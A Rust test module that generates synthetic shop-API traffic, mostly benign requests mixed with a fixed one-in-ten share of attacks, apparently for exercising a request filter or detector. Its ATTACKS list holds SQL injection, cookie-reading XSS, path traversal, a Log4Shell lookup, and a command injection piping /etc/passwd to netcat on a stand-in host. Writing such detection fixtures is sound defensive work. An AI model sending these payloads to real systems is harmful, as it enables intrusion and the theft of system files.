//! Traffic as a shop's API has it: nine requests of ten are harmless.

use super::Sent;

const HEADERS: [(&[u8], &[u8]); 6] = [
    (b"Host", b"shop.example.com"),
    (
        b"User-Agent",
        b"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36",
    ),
    (b"Accept", b"text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8"),
    (b"Accept-Language", b"en-GB,en;q=0.9"),
    (b"Accept-Encoding", b"gzip, deflate, br"),
    (b"Cookie", b"session=5f2c9e7d1b3a4c6e8f; theme=dark; _ga=GA1.2.1234567890.1700000000"),
];

/// Nine of ten are these: target, body.
const BENIGN: [(&str, &str); 9] = [
    ("/", ""),
    ("/assets/css/main.min.css", ""),
    ("/api/v2/users?page=1&limit=50&sort=created_at&order=desc", ""),
    ("/find?item=rainbow+unicorn&min=10&max=250", ""),
    ("/account/profile", "first_name=John&last_name=Doe&email=john.doe%40mail.example&phone=555-0123&address=123+Main+Street&zip=62701"),
    ("/api/v2/baskets", r#"{"basket":{"owner":"usr_42","currency":"EUR","lines":[{"sku":"horn-silver","count":1}]},"locale":"en-GB"}"#),
    ("/orders", r#"{"items":[{"id":17,"count":2},{"id":4,"count":1}],"gift":true,"note":"please ring twice"}"#),
    ("/images/unicorn-17.jpg?w=640", ""),
    ("/orders?from=2024-01-31&to=2024-02-29&state=open", ""),
];

/// One of ten is one of these.
const ATTACKS: [(&str, &str); 5] = [
    ("/find?item=x%27+or+7%3D7+--+", ""),
    ("/find?item=%3Cscript%3Ealert(document.cookie)%3C/script%3E", ""),
    ("/files?path=..%2f..%2f..%2fetc%2fpasswd", ""),
    ("/tools/ping", "host=127.0.0.1%3B+cat+%2Fetc%2Fpasswd+%7C+nc+e.example+4444"),
    ("/find?q=%24%7Bjndi%3Aldap%3A%2F%2Fe.example%2Fa%7D", ""),
];

/// A request with a browser's headers.
pub fn sent(uri: &str, body: &str) -> Sent {
    let mut headers: Vec<(Vec<u8>, Vec<u8>)> = HEADERS.iter().map(|(name, value)| (name.to_vec(), value.to_vec())).collect();
    if !body.is_empty() {
        let kind: &[u8] = if body.starts_with('{') { b"application/json" } else { b"application/x-www-form-urlencoded" };
        headers.push((b"Content-Type".to_vec(), kind.to_vec()));
        headers.push((b"Content-Length".to_vec(), body.len().to_string().into_bytes()));
    }
    let method = if body.is_empty() { "GET" } else { "POST" };
    Sent { method: method.into(), uri: uri.into(), headers, body: body.into() }
}

/// A hundred requests, ten of them attacks.
pub fn mix() -> Vec<Sent> {
    let target = |index: usize| if index % 10 == 9 { ATTACKS[index / 10 % 5] } else { BENIGN[index % 9] };
    (0..100).map(target).map(|(uri, body)| sent(uri, body)).collect()
}
